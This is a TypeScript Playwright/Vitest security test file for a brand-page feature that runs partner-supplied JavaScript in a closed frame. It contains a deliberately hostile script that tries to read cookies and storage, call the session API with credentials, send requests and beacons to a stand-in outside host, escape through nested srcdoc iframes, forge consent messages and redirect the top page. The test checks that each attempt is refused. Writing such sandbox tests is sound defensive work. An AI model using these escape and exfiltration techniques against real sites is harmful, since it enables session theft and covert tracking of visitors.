import type { Browser, BrowserContext, Frame, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, inject, test } from "vitest";
import { launchBrowser, newVisitor } from "./support/browser.ts";
import { newBrand } from "./support/new-brand.ts";
import { startStranger, type Stranger } from "./support/stranger.ts";

const origin = inject("origin");
const administrator = inject("administrator");

let browser: Browser;
let stranger: Stranger;
beforeAll(async () => {
  // Pages that a test answers for stand nowhere, and a browser lets those reach no machine like this one.
  browser = await launchBrowser(["--disable-features=LocalNetworkAccessChecks"]);
  stranger = await startStranger();
});
afterAll(async () => {
  await browser.close();
  await stranger.close();
});

/** Everything that a script may try from where it stands; what came of each is kept under its name. */
const hostile = (elsewhere: string) => `const own = document.currentScript.textContent;
window.tried = {};
if (location.href === "about:srcdoc") parent.postMessage({ inner: typeof RTCPeerConnection }, "*");
const inner = '<iframe srcdoc="' + ("<scr" + "ipt>" + own + "</scr" + "ipt>").replaceAll("&", "&amp;").replaceAll('"', "&quot;") + '"></iframe>';
const withInner = (put) => () => new Promise((done, no) => {
  addEventListener("message", ({ data }) => { if (data.inner) done("calls: " + data.inner); }, { once: true });
  setTimeout(() => no(new Error("silent")), 1500);
  put();
});
const frameWith = (give) => {
  const frame = document.createElement("iframe");
  give(frame, "<scr" + "ipt>" + own + "</scr" + "ipt>");
  document.body.append(frame);
};
const inners = {
  innerProperty: withInner(() => frameWith((frame, text) => { frame.srcdoc = text; })),
  innerAttribute: withInner(() => frameWith((frame, text) => frame.setAttribute("srcdoc", text))),
  innerNode: withInner(() => frameWith((frame, text) => {
    const node = document.createAttribute("srcdoc");
    node.value = text;
    frame.setAttributeNode(node);
  })),
  innerMarkup: withInner(() => { document.body.append(document.createElement("div")); document.body.lastChild.innerHTML = inner; }),
  innerUnsafe: withInner(() => document.body.setHTMLUnsafe(inner)),
  innerFragment: withInner(() => document.body.append(document.createRange().createContextualFragment(inner))),
  innerParsed: withInner(() => document.body.append(document.adoptNode(new DOMParser().parseFromString(inner, "text/html").body.firstChild))),
};
const attempts = {
  cookie: () => Object.getOwnPropertyDescriptor(Document.prototype, "cookie").get.call(document) + "read",
  localStorage: () => "kept " + localStorage.length,
  sessionStorage: () => "kept " + sessionStorage.length,
  database: () => new Promise((done, no) => {
    const asked = indexedDB.open("x");
    asked.onsuccess = () => done("opened");
    asked.onerror = () => no(asked.error);
  }),
  caches: () => caches.open("x").then(() => "opened"),
  page: () => parent.document.title,
  pageVariable: () => Object.keys(parent.localStorage).length + " seen",
  api: () => fetch("${origin}/api/accounts/session", { credentials: "include" }).then(({ status }) => "answered " + status),
  apiChange: () => fetch("${origin}/api/accounts/session", { method: "DELETE", credentials: "include", headers: { "content-type": "application/json" }, body: "{}" }).then(({ status }) => "answered " + status),
  window: () => open("${elsewhere}/window") ? "opened" : "no window",
  eval: () => eval("1 + 1") + "",
  fetch: () => fetch("${elsewhere}/fetch").then(() => "sent"),
  beacon: () => navigator.sendBeacon("${elsewhere}/beacon", "x") + "",
  image: () => loaded(Object.assign(new Image(), { src: "${elsewhere}/image" })),
  script: () => loaded(Object.assign(document.createElement("script"), { src: "${elsewhere}/script" })),
  styles: () => loaded(Object.assign(document.createElement("link"), { rel: "stylesheet", href: "${elsewhere}/styles" })),
  address: () => {
    document.documentElement.style.backgroundImage = 'url("${elsewhere}/address")';
    return document.body.offsetWidth;
  },
  frame: () => loaded(Object.assign(document.createElement("iframe"), { src: "${elsewhere}/frame" })),
  socket: () => new Promise((done, no) => {
    const socket = new WebSocket("${elsewhere}/socket".replace("http", "ws"));
    socket.onerror = () => no(new Error("closed"));
    socket.onopen = () => done("open");
  }),
  events: () => { new EventSource("${elsewhere}/events"); },
  worker: () => new Promise((done, no) => {
    const worker = new Worker(URL.createObjectURL(new Blob(["postMessage('runs')"])));
    worker.onmessage = () => done("runs");
    worker.onerror = () => no(new Error("no worker"));
  }),
  form: () => {
    const form = Object.assign(document.createElement("form"), { action: "${elsewhere}/form", method: "post", target: "_blank" });
    document.body.append(form);
    form.submit();
  },
  prefetch: () => { document.head.append(Object.assign(document.createElement("link"), { rel: "prefetch", href: "${elsewhere}/prefetch" })); },
  calls: () => new Promise((done, no) => {
    const call = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:9" }] });
    call.createDataChannel("x");
    call.onicecandidate = () => done("looks for a way");
    call.onicegatheringstatechange = () => done("looks for a way");
    setTimeout(() => no(new Error("no way")), 1000);
    call.createOffer().then((offer) => call.setLocalDescription(offer)).catch(no);
  }),
  hints: () => {
    const XHTML = "http://www.w3.org/1999/xhtml";
    const Link = HTMLLinkElement;
    window.HTMLLinkElement = class {};
    Object.defineProperty(Link, Symbol.hasInstance, { value: () => false });
    const made = [document.createElement("LINK"), document.createElementNS(XHTML, "x:link")];
    const { implementation } = document;
    if (implementation.createDocument) made.push(implementation.createDocument(XHTML, "link").documentElement);
    if (window.customElements) {
      class Mine extends Link {}
      customElements.define("my-link", Mine, { extends: "link" });
      made.push(new Mine());
    }
    return made.filter((one) => Link.prototype.isPrototypeOf(one)).length + " made";
  },
  messages: () => {
    const said = [{ name: "accepted" }, { name: "get-started-pressed" }, { type: "navigate", url: "${elsewhere}" }, "accepted", '{"choice":"declined"}'];
    for (const one of said) parent.postMessage(one, "*");
    return "said";
  },
};
function loaded(element) {
  return new Promise((done, no) => {
    element.onload = () => done("loaded");
    element.onerror = () => no(new Error("not loaded"));
    setTimeout(() => no(new Error("silent")), 1500);
    document.head.append(element);
  });
}
const run = async ([name, attempt]) => {
  try { tried[name] = String(await attempt()); }
  catch (error) { tried[name] = "refused: " + error.name; }
};
if (location.href !== "about:srcdoc") addEventListener("load", async () => {
  await Promise.all(Object.entries(attempts).map(run));
  for (const one of Object.entries(inners)) await run(one);
  tried.done = "yes";
});`;

/** Opens a brand's page as somebody who agrees that visits are counted; gives the closed document's frame. */
async function openAgreeing(page: Page, path: string): Promise<Frame> {
  await page.goto(path);
  await page.locator("[data-measuring-answer=accepted]").click();
  await page.locator("iframe").waitFor({ state: "attached" });
  return frameOf(page);
}

async function frameOf(page: Page): Promise<Frame> {
  const handle = await page.locator("iframe").elementHandle();
  const frame = await handle?.contentFrame();
  if (!frame) throw new Error("there is no frame");
  return frame;
}

/** The same script with nothing around it: in a plain frame, without the policy, and without what we run before it. */
async function openUnguarded(page: Page, context: BrowserContext, path: string): Promise<Frame> {
  await page.goto(path);
  const place = await page.locator("[data-measuring]").getAttribute("data-measuring");
  const whole = await (await page.request.get(place ?? "")).text();
  const body = whole.replace(/<script>[\s\S]*?<\/script>/, "");
  await context.route(`**${place}`, (route) => route.fulfill({ contentType: "text/html", body }));
  await context.route("**/unguarded", (route) =>
    route.fulfill({ contentType: "text/html", body: `<title>Ours</title><iframe src="${place}">` }),
  );
  await page.goto("/unguarded");
  return frameOf(page);
}

const triedIn = (frame: Frame): Promise<Record<string, string>> =>
  frame.evaluate(() => {
    const tried: unknown = Reflect.get(window, "tried");
    return { ...(typeof tried === "object" ? tried : {}) };
  });

/** What came of everything, once it is all done. */
async function outcome(frame: Frame): Promise<Record<string, string>> {
  await expect.poll(async () => (await triedIn(frame))["done"]).toBe("yes");
  return triedIn(frame);
}

describe("W-04 a hostile script on a partner's page", () => {
  test("reads, sends, opens and covers nothing, and is not heard; where nothing guards, it does", async () => {
    const path = await newBrand(browser, {
      origin,
      administrator,
      customJavascript: hostile(stranger.origin),
    });
    const visitor = await newVisitor(browser, { origin });
    const { page, context } = visitor;
    await page.addInitScript(() => {
      const heard: unknown[] = [];
      Object.defineProperty(window, "heard", { value: heard });
      addEventListener("message", ({ data }) => heard.push(data));
    });
    await page.goto(path);
    await page.evaluate(() => localStorage.setItem("ours", "secret"));
    const frame = await openAgreeing(page, path);
    const before = await page.evaluate(() => document.documentElement.outerHTML);
    const tried = await outcome(frame);
    const refused = Object.entries(tried).filter(([, came]) => came.startsWith("refused"));
    // What comes of the rest is nothing as well: no window, and requests that the stranger never sees.
    expect(Object.keys(tried).filter((name) => !refused.some(([one]) => one === name))).toEqual(
      expect.arrayContaining(["window", "messages", "done"]),
    );
    expect(Object.fromEntries(refused)).toMatchObject({
      cookie: "refused: SecurityError",
      localStorage: "refused: SecurityError",
      sessionStorage: "refused: SecurityError",
      database: "refused: SecurityError",
      caches: "refused: SecurityError",
      page: "refused: SecurityError",
      pageVariable: "refused: SecurityError",
      api: "refused: TypeError",
      apiChange: "refused: TypeError",
      eval: "refused: EvalError",
      fetch: "refused: TypeError",
      image: "refused: Error",
      script: "refused: Error",
      styles: "refused: Error",
      socket: "refused: Error",
      worker: "refused: Error",
      calls: "refused: ReferenceError",
    });
    expect(tried).toMatchObject({ window: "no window", hints: "0 made" });
    const insides = Object.entries(tried).filter(([name]) => name.startsWith("inner"));
    expect(insides).toHaveLength(7);
    for (const [name, came] of insides) expect(came, name).toBe("refused: TypeError");
    expect(stranger.asked).toEqual([]);
    expect(stranger.connections()).toBe(0);
    expect(context.pages()).toHaveLength(1);
    // Its messages arrive, and change nothing.
    expect(await page.evaluate(() => Reflect.get(window, "heard"))).toHaveLength(5);
    expect(await page.evaluate(() => document.documentElement.outerHTML)).toBe(before);
    expect(await page.locator("iframe").boundingBox()).toBeNull();
    await context.close();

    const open = await newVisitor(browser, { origin });
    const unguarded = await openUnguarded(open.page, open.context, path);
    const done = await outcome(unguarded);
    expect(done).toMatchObject({
      cookie: expect.stringContaining("read"),
      localStorage: expect.stringContaining("kept"),
      sessionStorage: expect.stringContaining("kept"),
      database: "opened",
      caches: "opened",
      page: "Ours",
      api: expect.stringContaining("answered"),
      apiChange: expect.stringContaining("answered"),
      window: "opened",
      eval: "2",
      fetch: "sent",
      beacon: "true",
      frame: "loaded",
      worker: "runs",
      calls: "looks for a way",
      hints: "4 made",
      innerProperty: "calls: function",
      innerAttribute: "calls: function",
      innerNode: "calls: function",
      innerMarkup: "calls: function",
      innerUnsafe: "calls: function",
      innerFragment: "calls: function",
      innerParsed: "calls: function",
    });
    const ways = ["window", "fetch", "beacon", "image", "script", "styles", "address", "frame"];
    for (const way of [...ways, "socket", "events", "form", "prefetch"]) {
      await expect.poll(() => stranger.asked, { message: way }).toContain(`/${way}`);
    }
    await open.context.close();
  });

  test.each([
    ["the page", "top", "top.location.href = "],
    ["its own document", "self", "location.href = "],
    ["its own document by a refresh", "refresh", "refresh"],
  ])("leads %s nowhere; where nothing guards, it does", async (_, name, way) => {
    const target = `${stranger.origin}/${name}`;
    const lead =
      way === "refresh"
        ? `document.head.append(Object.assign(document.createElement("meta"), { httpEquiv: "refresh", content: "0;url=${target}" }));`
        : `${way}"${target}";`;
    const customJavascript = `window.tried = {}; setTimeout(() => { tried.begun = "yes"; try { ${lead} } catch {} }, 300);`;
    const path = await newBrand(browser, { origin, administrator, customJavascript });
    const { page, context } = await newVisitor(browser, { origin });
    await openAgreeing(page, path);
    await page.waitForTimeout(1500);
    expect(stranger.asked).not.toContain(`/${name}`);
    expect(new URL(page.url()).pathname).toBe(path);
    await context.close();
    const open = await newVisitor(browser, { origin });
    await openUnguarded(open.page, open.context, path).catch(() => null);
    await expect.poll(() => stranger.asked).toContain(`/${name}`);
    await open.context.close();
  });

  test("opened by itself, or in another's frame, it is closed all the same", async () => {
    const path = await newBrand(browser, {
      origin,
      administrator,
      customJavascript: `window.tried = { cookie: "read" }; try { document.cookie } catch { tried.cookie = "refused" }`,
    });
    const { page, context } = await newVisitor(browser, { origin });
    await page.goto(path);
    const place = await page.locator("[data-measuring]").getAttribute("data-measuring");
    await page.goto(place ?? "");
    expect(await triedIn(page.mainFrame())).toEqual({ cookie: "refused" });
    await context.route(`${stranger.origin}/around`, (route) =>
      route.fulfill({ contentType: "text/html", body: `<iframe src="${origin}${place}">` }),
    );
    await page.goto(`${stranger.origin}/around`);
    const frame = await frameOf(page);
    expect(await triedIn(frame)).toEqual({});
    await context.close();
  });
});
